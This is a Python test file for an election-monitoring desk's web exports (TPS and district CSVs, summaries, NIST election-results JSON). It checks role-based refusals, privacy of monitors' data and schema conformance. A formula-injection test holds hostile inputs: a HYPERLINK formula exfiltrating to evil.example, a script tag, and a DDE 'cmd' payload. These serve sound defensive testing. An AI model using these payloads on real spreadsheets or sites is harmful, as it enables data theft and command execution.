"""The web page's exports (``sipantau_adapters.web.exports``) against a real desk.

Each export is read back (``csv`` module, ``json``) and checked against the desk's own
answers (``desk.tally``, ``desk.reports``, ``desk.station_status``); each is refused
exactly where the desk refuses, with the desk's code; no monitor's personal data and no
incident text reaches it; free text cannot start a spreadsheet formula.

The NIST document is checked against the schema by :mod:`nist_err_schema`.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import uuid
from collections.abc import Callable, Iterator, Mapping
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import attrs
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from nist_err_schema import SCHEMA_PATH, SCHEMA_SHA256, check_schema
from sipantau_adapters.web.exports import (
    CONFIDENTIAL_NOTICE,
    RegionSummary,
    district_csv,
    election_results_report,
    safe_cell,
    summary,
    tps_csv,
)
from sipantau_core import (
    Candidate,
    Contest,
    Deployment,
    Desk,
    Incident,
    PermissionDenied,
    PollingStation,
    Principal,
    RegionCode,
    RegionLevel,
    Role,
    SecurityStatus,
    SipantauError,
    SituationReport,
    Stage,
    StationCode,
    TallyReport,
    VoterCounts,
)
from sipantau_core.testing.contracts import build_deployment, small_deployment
from sipantau_core.testing.strategies import broken_tally_reports, tally_reports
from together import regions_read

ROOT = Path(__file__).resolve().parents[1]
EXAMPLE = ROOT / "examples" / "lubuklinggau"
NOW = datetime(2024, 11, 27, 11, 0, tzinfo=UTC)  # 18:00 WIB, after every deadline

SYSTEM = Principal(id="import", role=Role.SYSTEM)
COORDINATOR = Principal(id="coord", role=Role.COORDINATOR, scope="16.73")
OFFICER_01 = Principal(id="officer-01", role=Role.OFFICER, scope="16.73.01")
VIEWER = Principal(id="kantor-walikota", role=Role.VIEWER, scope="16.73")
AUDITOR = Principal(id="audit", role=Role.AUDITOR, scope="16.73")

FORMULA = ("=", "+", "-", "@", "\t", "\r")


# ---------------------------------------------------------------------------------------
# Desks
# ---------------------------------------------------------------------------------------


@pytest.fixture(params=["memory", "sqlite"])
def storage_url(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    return "memory://" if request.param == "memory" else f"sqlite:///{tmp_path / 'desk.db'}"


@pytest.fixture(scope="module")
def lubuklinggau() -> Deployment:
    return Deployment.load(EXAMPLE)


@pytest.fixture
def desk(lubuklinggau: Deployment, storage_url: str) -> Iterator[Desk]:
    """Kota Lubuklinggau (326 TPS) with its 40 sample tallies, some of them flagged."""
    with Desk.open(lubuklinggau, storage=storage_url, clock=lambda: NOW) as opened:
        lines = (EXAMPLE / "sample_tallies.jsonl").read_text(encoding="utf-8").splitlines()
        result = opened.submit_many(lines, principal=SYSTEM)
        assert not result.errors and result.count("flagged") > 0
        yield opened


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def number(cell: str) -> int:
    return int(cell) if cell else 0


def tally_report(
    station: str, monitor: str, votes: Mapping[int, int], invalid: int = 3
) -> TallyReport:
    valid = sum(votes.values())
    return TallyReport(
        report_id=uuid.uuid4(),
        monitor=monitor,
        station=station,
        contest="walikota",
        observed_at=NOW - timedelta(hours=1),
        votes=dict(votes),
        valid=valid,
        invalid=invalid,
        total=valid + invalid,
        voted=VoterCounts(valid + invalid, 0, 0),
    )


# ---------------------------------------------------------------------------------------
# The TPS CSV
# ---------------------------------------------------------------------------------------


def test_tps_csv_has_a_row_per_tps_with_the_desks_figures(desk: Desk) -> None:
    region = "16.73.02"
    rows = read_csv(tps_csv(desk, region, principal=COORDINATOR))
    stations = sorted(s.code for s in desk.deployment.stations_in(region))
    assert [r["tps_code"] for r in rows] == [s.compact for s in stations]
    assert [r["tps"] for r in rows] == [s.label for s in stations]
    heads = {
        s.station: (s, r) for s, r in desk.reports(region, principal=COORDINATOR, kind="tally")
    }
    status = {s.station: s for s in desk.station_status(region, principal=COORDINATOR)}
    for row in rows:
        station = desk.deployment.stations[StationCode.parse(row["tps_code"])]
        assert int(row["dpt"]) == station.registered_voters
        assert row["village"] == desk.deployment.region_name(station.code.village)
        assert row["district"] == "Lubuklinggau Timur I"
        for stage in Stage:
            assert row[stage.value] == status[row["tps_code"]].stage(stage).state
        head = heads.get(row["tps_code"])
        if head is None:
            assert (row["tally_status"], row["counted"], row["total"]) == ("none", "0", "")
            continue
        stored, report = head
        assert isinstance(report, TallyReport)
        assert row["tally_status"] == stored.status.value
        assert row["counted"] == ("1" if stored.status.value in ("accepted", "overridden") else "0")
        assert (int(row["valid"]), int(row["invalid"]), int(row["total"])) == (
            report.valid,
            report.invalid,
            report.total,
        )
        for n in (1, 2):
            assert row[f"votes {n} Paslon {n}"] == (
                str(report.votes[n]) if n in report.votes else ""
            )
        verdict = {v["code"] for v in json.loads(stored.verdict)}
        assert set(filter(None, row["rule_codes"].split(";"))) == verdict
    assert any(r["tally_status"] == "flagged" and r["rule_codes"] for r in rows)
    assert_counted_rows_sum_to_the_desk(desk, region, rows)


def assert_counted_rows_sum_to_the_desk(
    desk: Desk, region: str, rows: list[dict[str, str]]
) -> None:
    counted = [r for r in rows if r["counted"] == "1"]
    tally = desk.tally(region, principal=COORDINATOR)
    assert len(counted) == tally.stations_counted
    assert {n: sum(int(r[f"votes {n} Paslon {n}"]) for r in counted) for n in (1, 2)} == dict(
        tally.votes
    )
    for column in ("valid", "invalid", "total"):
        assert sum(int(r[column]) for r in counted) == getattr(tally, column)


def test_decisions_show_in_the_tps_csv_and_the_counted_rows_still_add_up(desk: Desk) -> None:
    officer = Principal(id="officer", role=Role.OFFICER, scope="16.73")
    flagged = desk.reports("16.73", principal=COORDINATOR, kind="tally")
    first_flagged = next(s for s, _ in flagged if s.status.value == "flagged")
    first_accepted = next(s for s, _ in flagged if s.status.value == "accepted")
    desk.override(first_flagged.report_id, principal=officer, reason="dicek dengan foto C1")
    desk.reject(first_accepted.report_id, principal=officer, reason="bukan TPS ini")
    rows = read_csv(tps_csv(desk, "16.73", principal=COORDINATOR))
    by_code = {r["tps_code"]: r for r in rows}
    assert by_code[first_flagged.station]["tally_status"] == "overridden"
    assert by_code[first_flagged.station]["counted"] == "1"
    assert by_code[first_accepted.station]["tally_status"] == "rejected"
    assert by_code[first_accepted.station]["counted"] == "0"
    assert len(rows) == 326
    assert_counted_rows_sum_to_the_desk(desk, "16.73", rows)


def test_a_monitor_exports_its_own_tps_only(desk: Desk) -> None:
    monitor = Principal(id="LLG-0093", role=Role.MONITOR, scope="1673021008002")
    rows = read_csv(tps_csv(desk, "1673021008002", principal=monitor))
    assert [r["tps_code"] for r in rows] == ["1673021008002"]
    assert rows[0]["tally_status"] == "accepted"
    with pytest.raises(PermissionDenied) as info:
        tps_csv(desk, "16.73.02.1008", principal=monitor)
    assert info.value.code == "access.out_of_scope"


def test_a_province_or_the_nation_is_exported_city_by_city_with_the_same_text(
    storage_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Above a city the TPS CSV reads each city in turn (never the whole region at once)
    and writes the same text as one read of the whole region; a refusal comes before
    any text (``iter_tps_csv`` raises when called)."""
    from sipantau_adapters.web import exports as exports_module
    from sipantau_core.testing.national import national_deployment, national_tallies

    dep = national_deployment(tps=600, provinces=2, cities=5, villages=60)
    with Desk.open(dep, storage=storage_url, clock=lambda: NOW) as desk:
        result = desk.submit_many(list(national_tallies(dep, share=0.7)), principal=SYSTEM)
        assert result.count("accepted") > 300
        cities = sorted(
            {s.code.village.at_level(RegionLevel.CITY).value for s in dep.stations.values()}
        )
        read = regions_read(monkeypatch)
        for region, parts in (
            ("ID", cities),
            (cities[0][:2], [c for c in cities if c.startswith(cities[0][:2])]),
        ):
            read.clear()
            text = tps_csv(desk, region, principal=SYSTEM, now=NOW)
            assert read == parts
            whole = exports_module._tps_rows(desk, region, SYSTEM, None, NOW, header=True)
            assert text == whole
            assert len(read_csv(text)) == len(list(dep.stations_in(RegionCode.parse(region))))
        city_officer = Principal(id="o", role=Role.OFFICER, scope=cities[0])
        with pytest.raises(PermissionDenied):
            exports_module.iter_tps_csv(desk, "ID", principal=city_officer)


# ---------------------------------------------------------------------------------------
# The district CSV and the summary
# ---------------------------------------------------------------------------------------


def test_district_csv_has_a_row_per_district_equal_to_desk_tally(desk: Desk) -> None:
    rows = read_csv(district_csv(desk, "16.73", principal=COORDINATOR))
    assert [r["code"] for r in rows] == [d.value for d in desk.deployment.districts()]
    assert rows[0]["name"] == "Lubuklinggau Barat I" and rows[0]["kind"] == "kecamatan"
    for row in rows:
        assert_row_is_the_desks(desk, row)
    city = desk.tally("16.73", principal=COORDINATOR)
    assert sum(int(r["total"]) for r in rows) == city.total
    assert sum(int(r["tps_expected"]) for r in rows) == city.stations_expected == 326
    assert sum(int(r["registered_covered"]) for r in rows) == city.registered_covered


def assert_row_is_the_desks(desk: Desk, row: Mapping[str, str]) -> None:
    tally = desk.tally(row["code"], principal=COORDINATOR)
    assert {n: int(row[f"votes {n} Paslon {n}"]) for n in (1, 2)} == dict(tally.votes)
    assert (int(row["valid"]), int(row["invalid"]), int(row["total"])) == (
        tally.valid,
        tally.invalid,
        tally.total,
    )
    for n in (1, 2):
        assert float(row[f"share {n} Paslon {n}"]) == pytest.approx(tally.share[n], abs=1e-6)
    assert (int(row["tps_counted"]), int(row["tps_expected"])) == (
        tally.stations_counted,
        tally.stations_expected,
    )
    assert (int(row["registered_covered"]), int(row["registered_expected"])) == (
        tally.registered_covered,
        tally.registered_expected,
    )


def test_a_district_is_broken_down_by_village_and_a_village_by_tps(desk: Desk) -> None:
    villages = read_csv(district_csv(desk, "16.73.02", principal=COORDINATOR))
    assert [r["code"] for r in villages] == [f"16.73.02.{1000 + i}" for i in range(1, 9)]
    assert {r["kind"] for r in villages} == {"kelurahan"}
    for row in villages:
        assert_row_is_the_desks(desk, row)
    tps = read_csv(district_csv(desk, "16.73.02.1008", principal=COORDINATOR))
    assert {r["kind"] for r in tps} == {"tps"}
    for row in tps:
        assert_row_is_the_desks(desk, row)


def test_the_summary_is_the_desks_count_with_its_projection(desk: Desk) -> None:
    at = datetime(2024, 11, 27, 12, 0, tzinfo=UTC)
    page = summary(desk, "16.73", principal=COORDINATOR, generated_at=at)
    assert isinstance(page, RegionSummary)
    assert (page.region, page.name, page.kind) == ("16.73", "Kota Lubuklinggau", "kota")
    assert page.contest == "walikota" and page.contest_name.startswith("Pemilihan Wali Kota")
    assert page.options == ((1, "Paslon 1"), (2, "Paslon 2")) and page.label(2) == "Paslon 2"
    assert page.generated_at == at
    assert page.notice == CONFIDENTIAL_NOTICE == "RAHASIA — bukan untuk konsumsi publik"
    assert page.tally == desk.tally("16.73", principal=COORDINATOR)
    assert not page.complete
    assert [r.code for r in page.rows] == [d.value for d in desk.deployment.districts()]
    assert all(r.tally == desk.tally(r.code, principal=COORDINATOR) for r in page.rows)
    progress = desk.progress("16.73", principal=COORDINATOR)
    assert progress.projection is not None
    assert page.projection is not None
    assert page.projection.share == progress.projection.share
    assert page.projection.margin == progress.projection.margin
    assert page.projection_note == progress.projection_note
    assert attrs.has(RegionSummary) and attrs.fields(RegionSummary).notice.default == page.notice
    with pytest.raises(attrs.exceptions.FrozenInstanceError):
        page.region = "16.73.01"  # type: ignore[misc]


def test_the_summary_of_one_tps_has_no_projection(desk: Desk) -> None:
    page = summary(desk, "1673021008002", principal=COORDINATOR)
    assert page.kind == "tps" and page.rows == () and page.projection is None
    assert page.tally.stations_counted == 1 and page.complete


# ---------------------------------------------------------------------------------------
# Who may export what
# ---------------------------------------------------------------------------------------

AGGREGATES: dict[str, Callable[..., object]] = {
    "district_csv": district_csv,
    "summary": summary,
    "election_results_report": election_results_report,
}
EVERY = {**AGGREGATES, "tps_csv": tps_csv}


def refusal(call: Callable[[], object]) -> str:
    with pytest.raises(PermissionDenied) as info:
        call()
    return info.value.code


@pytest.mark.parametrize("name", sorted(AGGREGATES))
def test_a_viewer_is_refused_before_the_release_and_served_after(desk: Desk, name: str) -> None:
    export = AGGREGATES[name]
    desks_code = refusal(lambda: desk.tally("16.73", principal=VIEWER))
    assert refusal(lambda: export(desk, "16.73", principal=VIEWER)) == desks_code
    assert desks_code == "access.not_released"
    desk.release("16.73", principal=COORDINATOR)
    # the city alone is not enough: every district shown must be released too
    assert refusal(lambda: desk.tally("16.73.01", principal=VIEWER)) == "access.not_released"
    assert refusal(lambda: export(desk, "16.73", principal=VIEWER)) == "access.not_released"
    for district in desk.deployment.districts():
        desk.release(district, principal=COORDINATOR)
    at = datetime(2024, 11, 27, 12, 0, tzinfo=UTC)
    kwargs: dict[str, Any] = {} if name == "district_csv" else {"generated_at": at}
    served = export(desk, "16.73", principal=VIEWER, **kwargs)
    assert served == export(desk, "16.73", principal=COORDINATOR, **kwargs)
    # a release covers exactly the regions released: the villages are not
    assert refusal(lambda: export(desk, "16.73.01", principal=VIEWER)) == "access.not_released"
    denied = [e for e in desk.history(principal=AUDITOR) if e.principal == VIEWER.id]
    assert {e.outcome for e in denied} >= {"ok", "denied:access.not_released"}


def test_a_viewer_never_reads_the_tps_csv(desk: Desk) -> None:
    desk.release("16.73", principal=COORDINATOR)
    desks_code = refusal(lambda: desk.reports("16.73", principal=VIEWER))
    assert refusal(lambda: tps_csv(desk, "16.73", principal=VIEWER)) == desks_code == "access.role"


@pytest.mark.parametrize("name", sorted(EVERY))
def test_an_officer_of_one_district_is_refused_another(desk: Desk, name: str) -> None:
    export = EVERY[name]
    assert export(desk, "16.73.01", principal=OFFICER_01)
    for elsewhere in ("16.73.02", "16.73", "1673021008002"):
        desks_code = refusal(lambda w=elsewhere: desk.tally(w, principal=OFFICER_01))
        assert desks_code == "access.out_of_scope"
        assert refusal(lambda w=elsewhere: export(desk, w, principal=OFFICER_01)) == desks_code


@pytest.mark.parametrize("name", sorted(EVERY))
def test_an_auditor_reads_no_figures(desk: Desk, name: str) -> None:
    assert refusal(lambda: EVERY[name](desk, "16.73", principal=AUDITOR)) == "access.role"


def test_the_contest_is_chosen_as_the_desk_chooses_it(storage_url: str) -> None:
    governor = Contest(
        id="gubernur", region="16", candidates=[Candidate(1, "Paslon A"), Candidate(2, "Paslon B")]
    )
    base = small_deployment()
    two = attrs.evolve(base, contests={**base.contests, "gubernur": governor})
    with Desk.open(two, storage=storage_url, clock=lambda: NOW) as desk:
        report = attrs.evolve(
            tally_report("1673011001001", "LLG-0001", {1: 5, 2: 6}), contest="gubernur"
        )
        desk.submit(report, principal=SYSTEM)
        for export in EVERY.values():
            assert (
                refusal_code(lambda e=export: e(desk, "16.73", principal=COORDINATOR))
                == (refusal_code(lambda: desk.tally("16.73", principal=COORDINATOR)))
                == "contest.ambiguous"
            )
            assert (
                refusal_code(
                    lambda e=export: e(desk, "16.73", principal=COORDINATOR, contest="dprd")
                )
                == "report.unknown_contest"
            )
        rows = read_csv(tps_csv(desk, "16.73", principal=COORDINATOR, contest="gubernur"))
        assert [r["tally_status"] for r in rows] == ["accepted", "none", "none"]
        assert "votes 1 Paslon A" in rows[0]
        rows = read_csv(tps_csv(desk, "16.73", principal=COORDINATOR, contest="walikota"))
        assert [r["tally_status"] for r in rows] == ["none", "none", "none"]
        doc = election_results_report(desk, "16.73", principal=COORDINATOR, contest="gubernur")
        assert check_schema(doc) == []
        assert doc["Election"][0]["ElectionScopeId"] == "ru-16"
        assert doc["GpUnit"][0] == {
            "@id": "ru-16",
            "@type": "ElectionResults.ReportingUnit",
            "ExternalIdentifier": [
                {
                    "@type": "ElectionResults.ExternalIdentifier",
                    "Label": "kode wilayah Kemendagri",
                    "Type": "national-level",
                    "Value": "16",
                }
            ],
            "Name": {
                "@type": "ElectionResults.InternationalizedText",
                "Text": [
                    {"@type": "ElectionResults.LanguageString", "Content": "16", "Language": "id"}
                ],
            },
            "Type": "state",
        }


def refusal_code(call: Callable[[], object]) -> str:
    with pytest.raises(SipantauError) as info:
        call()
    return info.value.code


# ---------------------------------------------------------------------------------------
# What never reaches an export
# ---------------------------------------------------------------------------------------


def every_export(desk: Desk, region: str) -> str:
    """Everything the exports give for ``region``, as one text."""
    at = datetime(2024, 11, 27, 12, 0, tzinfo=UTC)
    return "\n".join(
        [
            tps_csv(desk, region, principal=COORDINATOR),
            district_csv(desk, region, principal=COORDINATOR),
            json.dumps(
                election_results_report(desk, region, principal=COORDINATOR), ensure_ascii=False
            ),
            repr(summary(desk, region, principal=COORDINATOR, generated_at=at)),
        ]
    )


def test_no_personal_data_of_monitors_in_any_export(desk: Desk) -> None:
    monitors = [m for m in desk.deployment.monitors.values() if m.personal is not None]
    assert len(monitors) == 326
    text = every_export(desk, "16.73")
    for monitor in monitors:
        assert monitor.personal is not None
        for secret in (monitor.personal.name, monitor.personal.phone, monitor.personal.national_id):
            assert secret.reveal() not in text


HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"klik")<script>alert(1)</script>'


def hostile_desk(storage_url: str) -> Desk:
    """A desk whose free text (names from the deployment, an incident) is hostile."""
    stations = [
        PollingStation(code="1673011001001", registered_voters=400, name="=cmd|' /C calc'!A0"),
        PollingStation(code="1673011001002", registered_voters=350, name="+SUM(1,1)"),
        PollingStation(code="1673021002001", registered_voters=500, name="<b>TPS</b>"),
    ]
    contest = Contest(
        id="walikota",
        region="16.73",
        name="@Pilkada <i>2024</i>",
        candidates=[Candidate(1, "-2+3"), Candidate(2, "@SUM(A1:A9)")],
    )
    base = build_deployment(stations, contest=contest, id="jahat", name="Desk <script>x</script>")
    names = {
        RegionCode("16.73"): "=Kota",
        RegionCode("16.73.01"): "+Barat",
        RegionCode("16.73.01.1001"): "-Kayu Ara",
        RegionCode("16.73.02"): "@Timur",
        RegionCode("16.73.02.1002"): "\tMajapahit",
    }
    return Desk.open(attrs.evolve(base, region_names=names), storage=storage_url, clock=lambda: NOW)


def test_formula_and_html_text_never_reaches_a_csv_unescaped(storage_url: str) -> None:
    with hostile_desk(storage_url) as desk:
        incident = SituationReport(
            report_id=uuid.uuid4(),
            monitor="LLG-0001",
            station="1673011001001",
            observed_at=NOW - timedelta(hours=3),
            stage=Stage.VOTING,
            status=SecurityStatus.DISTURBED,
            incidents=[Incident("intimidasi", 3, HOSTILE)],
            note=HOSTILE,
        )
        desk.submit(incident, principal=SYSTEM)
        desk.submit(tally_report("1673011001001", "LLG-0001", {1: 10, 2: 20}), principal=SYSTEM)
        for text in (
            tps_csv(desk, "16.73", principal=COORDINATOR),
            district_csv(desk, "16.73", principal=COORDINATOR),
            district_csv(desk, "16.73.01.1001", principal=COORDINATOR),
        ):
            assert "HYPERLINK" not in text and "<script>" not in text
            table = list(csv.reader(io.StringIO(text, newline="")))
            for cell in (c for row in table for c in row):
                assert not cell.startswith(FORMULA), cell
            assert all(len(row) == len(table[0]) for row in table)
        rows = read_csv(tps_csv(desk, "16.73", principal=COORDINATOR))
        assert [r["tps_name"] for r in rows] == ["'=cmd|' /C calc'!A0", "'+SUM(1,1)", "<b>TPS</b>"]
        assert [r["village"] for r in rows][:2] == ["'-Kayu Ara", "'-Kayu Ara"]
        assert rows[0]["district"] == "'+Barat"
        assert rows[0]["incidents"] == "1" and rows[0]["incident_categories"] == "intimidasi:3"
        header = next(csv.reader(io.StringIO(tps_csv(desk, "16.73", principal=COORDINATOR))))
        assert "votes 1 -2+3" in header and "votes 2 @SUM(A1:A9)" in header
        districts = read_csv(district_csv(desk, "16.73", principal=COORDINATOR))
        assert [r["name"] for r in districts] == ["'+Barat", "'@Timur"]
        assert int(districts[0]["total"]) == 33  # numbers stay numbers


@given(text=st.text(max_size=40))
def test_a_guarded_cell_reads_back_as_text_that_starts_no_formula(text: str) -> None:
    cell = safe_cell(text)
    assert isinstance(cell, str)
    assert not cell.startswith(FORMULA)
    assert cell in (text, "'" + text)
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerow([cell, 7, 0.5])
    assert next(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [cell, "7", "0.5"]


def test_numbers_stay_numbers() -> None:
    assert (safe_cell(-3), safe_cell(0.25), safe_cell(None), safe_cell("-")) == (-3, 0.25, "", "'-")


# ---------------------------------------------------------------------------------------
# The NIST election results document
# ---------------------------------------------------------------------------------------


def test_the_schema_is_the_published_file() -> None:
    data = SCHEMA_PATH.read_bytes()
    assert (len(data), hashlib.sha256(data).hexdigest()) == (58116, SCHEMA_SHA256)


def test_the_schema_check_finds_what_is_wrong() -> None:
    assert check_schema({"@type": "ElectionResults.ElectionReport"})  # required fields missing
    assert any(
        "Status" in p
        for p in check_schema(
            {
                "@type": "ElectionResults.ElectionReport",
                "Format": "summary-contest",
                "GeneratedDate": "2024-11-27T12:00:00+07:00",
                "Issuer": "x",
                "IssuerAbbreviation": "x",
                "SequenceEnd": 1,
                "SequenceStart": 1,
                "Status": "official",
                "VendorApplicationId": "x",
            }
        )
    )
    bad_ref = {
        "@type": "ElectionResults.ElectionReport",
        "Election": [
            {
                "@type": "ElectionResults.Election",
                "ElectionScopeId": "ru-nowhere",
                "EndDate": "2024-11-27",
                "StartDate": "2024-11-27",
                "Name": {"@type": "ElectionResults.InternationalizedText", "Text": []},
                "Type": "pilkada",
            }
        ],
    }
    found = " ".join(check_schema(bad_ref))
    assert "ru-nowhere" in found and "pilkada" in found and "fewer than 1" in found


def err_counts(doc: Mapping[str, Any]) -> dict[str, dict[str, Any]]:
    """Per GpUnit id: votes per option number, total and invalid, as the document says."""
    election = doc["Election"][0]
    option = {c["@id"]: int(c["ExternalIdentifier"][0]["Value"]) for c in election["Candidate"]}
    out: dict[str, dict[str, Any]] = {}
    for selection in election["Contest"][0]["ContestSelection"]:
        (candidate,) = selection["CandidateIds"]
        for count in selection["VoteCounts"]:
            unit = out.setdefault(count["GpUnitId"], {"votes": {}})
            unit["votes"][option[candidate]] = count["Count"]
    for ballots in election["BallotCounts"]:
        out[ballots["GpUnitId"]].update(
            total=ballots["BallotsCast"], invalid=ballots["BallotsRejected"]
        )
    return out


def test_the_election_results_report_is_the_desks_count_and_fits_the_schema(desk: Desk) -> None:
    at = datetime(2024, 11, 27, 19, 30, 15, 123456, tzinfo=UTC)
    doc = election_results_report(desk, "16.73", principal=COORDINATOR, generated_at=at)
    assert check_schema(doc) == []
    assert json.loads(json.dumps(doc)) == doc
    assert doc["GeneratedDate"] == "2024-11-27T19:30:15+00:00"
    assert (doc["Format"], doc["Status"]) == ("summary-contest", "unofficial-partial")
    assert (doc["Issuer"], doc["IssuerAbbreviation"]) == (
        "Desk Pilkada Kota Lubuklinggau",
        "lubuklinggau",
    )
    assert (doc["SequenceStart"], doc["SequenceEnd"]) == (1, 1)
    assert CONFIDENTIAL_NOTICE in doc["Notes"]
    units = {u["@id"]: u for u in doc["GpUnit"]}
    city = units["ru-16.73"]
    assert (city["Type"], city["Name"]["Text"][0]["Content"]) == ("city", "Kota Lubuklinggau")
    districts = [f"ru-{d.value}" for d in desk.deployment.districts()]
    assert city["ComposingGpUnitIds"] == districts
    assert [units[d]["Type"] for d in districts] == ["other"] * 8
    assert {units[d]["OtherType"] for d in districts} == {"kecamatan"}
    election = doc["Election"][0]
    assert election["ElectionScopeId"] == "ru-16.73"
    assert (election["StartDate"], election["EndDate"], election["Type"]) == (
        "2024-11-27",
        "2024-11-27",
        "general",
    )
    contest = election["Contest"][0]
    assert (contest["@type"], contest["ElectionDistrictId"], contest["VotesAllowed"]) == (
        "ElectionResults.CandidateContest",
        "ru-16.73",
        1,
    )
    counts = err_counts(doc)
    assert set(counts) == {"ru-16.73", *districts}
    for unit_id, found in counts.items():
        tally = desk.tally(unit_id.removeprefix("ru-"), principal=COORDINATOR)
        assert found == {"votes": dict(tally.votes), "total": tally.total, "invalid": tally.invalid}
        assert units[unit_id]["SubUnitsReported"] == tally.stations_counted
        assert units[unit_id]["TotalSubUnits"] == tally.stations_expected
        assert units[unit_id]["VotersRegistered"] == tally.registered_expected
    assert election_results_report(desk, "16.73", principal=COORDINATOR, generated_at=at) == doc


def test_a_village_report_is_precinct_level_and_names_the_contests_city(desk: Desk) -> None:
    doc = election_results_report(desk, "16.73.02.1008", principal=COORDINATOR)
    assert check_schema(doc) == []
    assert doc["Format"] == "precinct-level"
    units = {u["@id"]: u for u in doc["GpUnit"]}
    assert units["ru-16.73"]["Type"] == "city" and "VotersRegistered" not in units["ru-16.73"]
    assert units["ru-16.73.02.1008"]["OtherType"] == "kelurahan"
    tps = [u for u in doc["GpUnit"] if u["Type"] == "precinct"]
    assert tps and units["ru-16.73.02.1008"]["ComposingGpUnitIds"] == [u["@id"] for u in tps]
    assert doc["Election"][0]["ElectionScopeId"] == "ru-16.73"
    for unit_id, found in err_counts(doc).items():
        tally = desk.tally(unit_id.removeprefix("ru-"), principal=COORDINATOR)
        assert found["votes"] == dict(tally.votes)


def test_a_tps_and_a_province_fit_the_schema_too(desk: Desk) -> None:
    one = election_results_report(desk, "1673021008002", principal=COORDINATOR)
    assert check_schema(one) == []
    assert [(u["@id"], u["Type"]) for u in one["GpUnit"]] == [
        ("ru-16.73", "city"),
        ("ru-1673021008002", "precinct"),
    ]
    assert (one["Format"], one["Status"]) == ("precinct-level", "unofficial-complete")
    province = election_results_report(desk, "16", principal=SYSTEM)
    assert check_schema(province) == []
    units = {u["@id"]: u for u in province["GpUnit"]}
    assert (units["ru-16"]["Type"], units["ru-16"]["ComposingGpUnitIds"]) == ("state", ["ru-16.73"])
    assert province["Election"][0]["Contest"][0]["ElectionDistrictId"] == "ru-16.73"
    assert err_counts(province)["ru-16"] == err_counts(province)["ru-16.73"]


def test_a_naive_generation_time_is_refused(desk: Desk) -> None:
    with pytest.raises(ValueError, match="time zone"):
        election_results_report(
            desk, "16.73", principal=COORDINATOR, generated_at=datetime(2024, 11, 27)
        )


# ---------------------------------------------------------------------------------------
# Any counts, on a single pair against the empty box
# ---------------------------------------------------------------------------------------

SINGLE_PAIR = Contest(
    id="walikota",
    region="16.73",
    name="Pilwalkot calon tunggal",
    candidates=[Candidate(1, "Paslon tunggal")],
    empty_box=True,
)


def single_pair_deployment() -> Deployment:
    return build_deployment(small_deployment().stations.values(), contest=SINGLE_PAIR, id="tunggal")


@st.composite
def fates(draw: st.DrawFn, deployment: Deployment) -> list[TallyReport]:
    """For each TPS: no tally, a tally that counts, or one that breaks a hard rule."""
    out = []
    for i, station in enumerate(sorted(deployment.stations.values(), key=lambda s: s.code), 1):
        fate = draw(st.sampled_from(["none", "valid", "broken"]))
        monitor = f"LLG-{i:04d}"
        if fate == "valid":
            out.append(draw(tally_reports(station=station, contest=SINGLE_PAIR, monitor=monitor)))
        elif fate == "broken":
            rule = draw(st.sampled_from(["votes.sum_mismatch", "total.sum_mismatch"]))
            out.append(
                draw(
                    broken_tally_reports(
                        rule=rule, station=station, contest=SINGLE_PAIR, monitor=monitor
                    )
                )
            )
    return out


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_every_export_agrees_with_the_desk_for_any_counts(data: st.DataObject) -> None:
    deployment = single_pair_deployment()
    reports = data.draw(fates(deployment))
    with Desk.open(deployment, storage="memory://", clock=lambda: NOW) as desk:
        result = desk.submit_many(reports, principal=SYSTEM)
        assert not result.errors
        city = desk.tally("16.73", principal=COORDINATOR)
        assert set(city.votes) == {0, 1}

        rows = read_csv(tps_csv(desk, "16.73", principal=COORDINATOR))
        counted = [r for r in rows if r["counted"] == "1"]
        assert len(counted) == city.stations_counted == result.count("accepted")
        assert sum(number(r["votes 0 Kotak kosong"]) for r in counted) == city.votes[0]
        assert sum(number(r["votes 1 Paslon tunggal"]) for r in counted) == city.votes[1]
        assert [r["tally_status"] for r in rows].count("flagged") == result.count("flagged")

        districts = read_csv(district_csv(desk, "16.73", principal=COORDINATOR))
        assert sum(int(r["votes 0 Kotak kosong"]) for r in districts) == city.votes[0]
        assert sum(int(r["total"]) for r in districts) == city.total

        doc = election_results_report(desk, "16.73", principal=COORDINATOR)
        assert check_schema(doc) == []
        selections = doc["Election"][0]["Contest"][0]["ContestSelection"]
        assert [s["@id"] for s in selections] == ["cs-walikota-1", "cs-walikota-0"]
        assert err_counts(doc)["ru-16.73"] == {
            "votes": dict(city.votes),
            "total": city.total,
            "invalid": city.invalid,
        }
        complete = city.stations_counted == city.stations_expected
        assert doc["Status"] == ("unofficial-complete" if complete else "unofficial-partial")

        page = summary(desk, "16.73", principal=COORDINATOR)
        assert page.tally == city and page.complete == complete
        assert page.options == ((1, "Paslon tunggal"), (0, "Kotak kosong"))


def test_a_refusal_comes_before_the_contest_and_an_unknown_tps_is_the_desks_error() -> None:
    """As before the exports and the map were read city by city: the desk's read (and
    its refusal, on record) comes first, then the contest asked."""
    from sipantau_adapters.web.mapdata import map_data
    from sipantau_core.testing.national import national_deployment

    dep = national_deployment(tps=300, provinces=2, cities=4, villages=30)
    viewer = Principal(id="v", role=Role.VIEWER, scope="ID")
    with Desk.open(dep, storage="memory://", clock=lambda: NOW) as desk:
        for export in (tps_csv, map_data):
            with pytest.raises(PermissionDenied) as info:
                export(desk, "ID", principal=viewer, contest="nope")  # type: ignore[operator]
            assert info.value.code == "access.role"
        denied = [e for e in desk.audit.entries() if e.outcome == "denied:access.role"]
        assert len(denied) == 2
        stranger = StationCode.parse("9901011001001")
        for export in (tps_csv, map_data):
            with pytest.raises(SipantauError) as caught:
                export(desk, stranger, principal=SYSTEM)  # type: ignore[operator]
            assert caught.value.code == "report.unknown_station"
